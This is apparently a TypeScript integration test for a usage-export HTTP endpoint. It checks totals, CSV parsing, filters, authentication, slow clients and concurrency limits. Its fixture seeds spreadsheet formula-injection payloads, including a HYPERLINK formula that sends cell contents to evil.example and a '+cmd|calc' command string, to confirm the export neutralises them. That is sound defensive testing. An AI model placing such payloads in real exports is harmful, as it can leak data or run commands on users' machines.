// The usage export over real HTTP: what it says of 50,000 rows agrees with the sums to one nano-dollar, CSV is safe and can be read again, a
// slow client slows it, and one that leaves ends it.
import { request as httpRequest, type IncomingHttpHeaders, type IncomingMessage } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ExportProgress } from '../../src/extension/commands/exportProgress';
import { ManagementClient } from '../../src/extension/managementClient';
import { channel, closing, dice, key, noon, opening } from '../store/storeKit';
import { waitFor } from '../support/waitFor';
import { ManagementFixture } from './managementFixture';

const count = 50_000;
const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"click")\r\n,";';
let fixture: ManagementFixture;

beforeAll(async () => {
  fixture = await ManagementFixture.start();
  const { store } = fixture;
  store.channels.insert(channel('c1', { name: '+cmd|calc' }));
  store.keys.insert(key('k1', { name: '@key, "quoted"' }), Buffer.from('k1'));
  const random = dice(11);
  let ended: Promise<unknown>[] = [];
  for (let index = 0; index < count; index += 1) {
    if (index % 5000 === 0) ended = (await Promise.all(ended), []);
    const id = `r${String(index).padStart(6, '0')}`;
    store.requests.open(opening(id, { startedAt: noon + index * 60_000, tool: index % 5 === 0 ? 'codex' : null }));
    ended.push(
      store.requests.close(
        id,
        closing({
          costNanoDollars: index % 7 === 0 ? null : Math.floor(random() * 3e9),
          cacheSavingsNanoDollars: index % 3 === 0 ? null : Math.floor((random() - 0.5) * 1e9),
          error: index === 3 ? nasty : null,
          warnings: index === 4 ? ['\t=1+1', '-2'] : [],
        }),
      ),
    );
  }
  await Promise.all(ended);
  store.requests.open(opening('running', { startedAt: noon + 5 }));
});
afterAll(() => fixture.close());

function get(query: string, method = 'GET'): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    const url = `${fixture.url}/api/v1/usage/export?${query}`;
    const headers = { authorization: `Bearer ${fixture.token}` };
    httpRequest(url, { method, headers, agent: false }, resolve).on('error', reject).end();
  });
}

async function read(
  query: string,
  method = 'GET',
): Promise<{ status: number; headers: IncomingHttpHeaders; text: string }> {
  const response = await get(query, method);
  const chunks: Buffer[] = [];
  for await (const chunk of response) chunks.push(chunk as Buffer);
  return { status: response.statusCode ?? 0, headers: response.headers, text: Buffer.concat(chunks).toString('utf8') };
}

/** A reader of RFC 4180, strict: every record ends with CRLF, and has as many fields as the header. */
function parseCsv(text: string): Record<string, string>[] {
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  const records: string[][] = [];
  let record: string[] = [];
  while (field.lastIndex < text.length) {
    const [, quoted, plain = '', after] = field.exec(text) ?? [];
    if (after === undefined) throw new Error('this is no CSV');
    record.push(quoted?.replaceAll('""', '"') ?? plain);
    if (after === ',') continue;
    records.push(record);
    record = [];
  }
  const [names = [], ...rows] = records;
  return rows.map((row) => {
    if (row.length !== names.length) throw new Error('a record has another number of fields than the header');
    return Object.fromEntries(names.map((name, index) => [name, row[index] ?? '']));
  });
}

const nano = (text: string): bigint => {
  if (!/^-?\d+\.\d{9}$/.test(text)) throw new Error(`${text} is no amount`);
  return BigInt(text.replace('.', ''));
};

describe('the export', () => {
  it('as CSV and as JSON sums up to what the summary says, to one nano-dollar', async () => {
    const csv = await read('format=csv');
    expect(csv).toMatchObject({
      status: 200,
      headers: {
        'content-type': 'text/csv; charset=utf-8; header=present',
        'x-gatehouse-rows': String(count),
        'x-content-type-options': 'nosniff',
      },
    });
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="gatehouse-usage-\d{4}-\d\d-\d\d\.csv"$/);
    const rows = parseCsv(csv.text);
    expect(rows).toHaveLength(count);
    expect(rows.at(-1)).toMatchObject({ id: 'r000000', key: '\'@key, "quoted"', channel: "'+cmd|calc", costUsd: '' });
    const added = (name: string): bigint =>
      rows.reduce((total, row) => total + (row[name] === '' ? 0n : nano(row[name] ?? '')), 0n);
    const costs = added('costUsd');
    const savings = added('cacheSavingsUsd');

    const json = await read('format=json');
    expect(json.headers).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'x-gatehouse-rows': String(count),
    });
    const list = JSON.parse(json.text) as { id: string; costUsd: number | null; cacheSavingsUsd: number | null }[];
    expect(list).toHaveLength(count);
    expect(new Set(list.map((row) => row.id)).size).toBe(count);
    const sum = (values: (number | null)[]): bigint =>
      values.reduce((total, value) => total + BigInt(Math.round((value ?? 0) * 1e9)), 0n);
    expect(sum(list.map((row) => row.costUsd))).toBe(costs);
    expect(sum(list.map((row) => row.cacheSavingsUsd))).toBe(savings);

    const { total } = fixture.store.requests.summary({});
    expect(BigInt(Math.round(total.costUsd * 1e9))).toBe(costs);
    expect(BigInt(Math.round(total.cacheSavingsUsd * 1e9))).toBe(savings);
    expect(total.requests).toBe(count);
    expect(costs).toBeGreaterThan(10n ** 13n);
  });

  it('writes no cell that a spreadsheet would run, and gives back every text when it is read', async () => {
    const range = `from=${new Date(noon).toISOString()}&to=${new Date(noon + 10 * 60_000).toISOString()}`;
    const rows = parseCsv((await read(`format=csv&${range}`)).text);
    expect(rows.map((row) => row['id'])).toEqual(Array.from({ length: 10 }, (_, index) => `r00000${9 - index}`));
    expect(rows[6]).toMatchObject({ error: `'${nasty}` });
    expect(rows[5]).toMatchObject({ warnings: "'\t=1+1\n-2" });
    const dangerous = rows
      .flatMap((row) => Object.entries(row))
      .filter(([name, value]) => /^[=+\-@\t\r]/.test(value) && name !== 'cacheSavingsUsd');
    expect(dangerous).toEqual([]);
    const list = JSON.parse((await read(`format=json&${range}`)).text) as Record<string, unknown>[];
    expect(list[6]).toMatchObject({
      error: nasty,
      key: '@key, "quoted"',
      channel: '+cmd|calc',
      provider: 'custom-openai',
    });
  });

  it('takes the filters of the log, and may be empty', async () => {
    const some = await read('format=json&tool=codex&status=2xx');
    expect(some.headers['x-gatehouse-rows']).toBe(String(count / 5));
    expect(JSON.parse(some.text)).toHaveLength(count / 5);
    const none = await read('format=json&tool=nothing');
    expect({ rows: none.headers['x-gatehouse-rows'], value: JSON.parse(none.text) as unknown }).toEqual({
      rows: '0',
      value: [],
    });
    expect(parseCsv((await read('format=csv&tool=nothing')).text)).toEqual([]);
    const head = await read('format=csv&tool=codex', 'HEAD');
    expect({ rows: head.headers['x-gatehouse-rows'], text: head.text }).toEqual({ rows: String(count / 5), text: '' });
  });

  it.each([
    ['', 400],
    ['format=xml', 400],
    ['format=csv&from=yesterday', 400],
    ['format=csv&from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', 400],
    ['format=csv&status=9xx', 400],
    ['format=csv&limit=5', 400],
    ['format=csv&tool=a&tool=b', 400],
  ])('refuses %j', async (query, status) => {
    const refused = await read(query);
    expect(refused.status).toBe(status);
    expect(JSON.parse(refused.text)).toMatchObject({ error: { kind: 'bad-request' } });
  });

  it('is read by GET alone, with the token', async () => {
    expect((await read('format=csv', 'POST')).status).toBe(405);
    const bare = await fetch(`${fixture.url}/api/v1/usage/export?format=csv`);
    expect(bare.status).toBe(401);
    await bare.arrayBuffer();
  });

  it('shows one state of the log, waits for a slow client, and holds nobody up', async () => {
    const response = await get('format=json');
    const buffered = response.socket.bytesRead;
    // Added and changed while the export waits for us to read.
    for (let index = 0; index < 100; index += 1) {
      fixture.store.requests.open(opening(`late-${index}`, { startedAt: noon - 1000 + index }));
      await fixture.store.requests.close(`late-${index}`, closing({ costNanoDollars: 1 }));
    }
    expect(buffered).toBeLessThan(10_000_000);
    let turns = 0;
    const counting = setInterval(() => (turns += 1), 1);
    let text = '';
    for await (const chunk of response) text += String(chunk);
    clearInterval(counting);
    const list = JSON.parse(text) as { id: string }[];
    expect(list).toHaveLength(count);
    expect(list.some((row) => row.id.startsWith('late'))).toBe(false);
    // All else had its turn again and again.
    expect(turns).toBeGreaterThan(10);
  });

  it('ends when its client leaves, and lets only a few run at once', async () => {
    const open = await Promise.all([1, 2, 3, 4].map(() => get('format=json')));
    const fifth = await read('format=json');
    expect(fifth.status).toBe(429);
    for (const response of open) response.destroy();
    await waitFor(async () => (await read('format=csv&tool=nothing')).status === 200);
  });
});

describe("the window's client", () => {
  const client = (): ManagementClient => new ManagementClient(fixture.url, fixture.token);

  it('gets the number of rows first and then all of them, with progress that ends where they do', async () => {
    const { rows, chunks } = await client().openExport({ format: 'json', tool: 'codex' }, new AbortController().signal);
    expect(rows).toBe(count / 5);
    const steps: number[] = [];
    let percent = 0;
    const progress = new ExportProgress(rows, ({ done, increment }) => {
      steps.push(done);
      percent += increment;
    });
    let text = '';
    for await (const chunk of chunks) {
      progress.take(chunk);
      text += String(chunk);
    }
    expect(JSON.parse(text)).toHaveLength(rows);
    expect(steps.length).toBeGreaterThan(5);
    expect(steps).toEqual(steps.toSorted((a, b) => a - b));
    expect(steps.at(-1)).toBeLessThanOrEqual(rows);
    expect(percent).toBeGreaterThan(80);
    // A sum of fractions.
    expect(percent).toBeLessThanOrEqual(100 + 1e-9);
  });

  it('is told what is wrong, and may leave at any time', async () => {
    const wrong = client().openExport({ format: 'csv', from: 'never' }, new AbortController().signal);
    await expect(wrong).rejects.toMatchObject({ kind: 'bad-request' });
    const leaving = new AbortController();
    const { chunks } = await client().openExport({ format: 'csv' }, leaving.signal);
    const read = async (): Promise<void> => {
      for await (const chunk of chunks) if (chunk.length > 0) leaving.abort();
    };
    await expect(read()).rejects.toThrow();
    await expect(client().openExport({ format: 'csv' }, leaving.signal)).rejects.toMatchObject({
      kind: 'client-closed',
    });
  });
});
